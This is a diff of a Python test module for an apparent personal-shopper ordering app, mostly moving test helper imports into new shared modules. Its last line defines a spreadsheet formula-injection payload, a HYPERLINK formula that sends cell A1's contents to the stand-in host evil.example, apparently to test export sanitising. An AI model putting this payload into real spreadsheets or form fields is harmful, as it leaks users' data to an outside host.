@@ -19,12 +19,21 @@ from services.statements import Credit
 from storage.demo import DEMO_PHONE
 from storage.models import Trip
 from storage.repo.panel import OrderMoney
+from tests.admin_pages import logged_in as admin_logged_in
 from tests.conftest import Harness
-from tests.test_admin_jastiper_web import browser
-from tests.test_admin_jastiper_web import logged_in as jastiper_logged_in
-from tests.test_admin_panel import logged_in as admin_logged_in
-from tests.test_buyer_journey import joined, order_one
-from tests.test_money import CALBEE, ROYCE, exact, order_code, pay, the_order, tina
+from tests.jastiper_pages import browser
+from tests.jastiper_pages import logged_in as jastiper_logged_in
+from tests.journeys import (
+    CALBEE,
+    ROYCE,
+    exact,
+    joined,
+    order_code,
+    order_one,
+    pay,
+    the_order,
+    tina,
+)
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
 
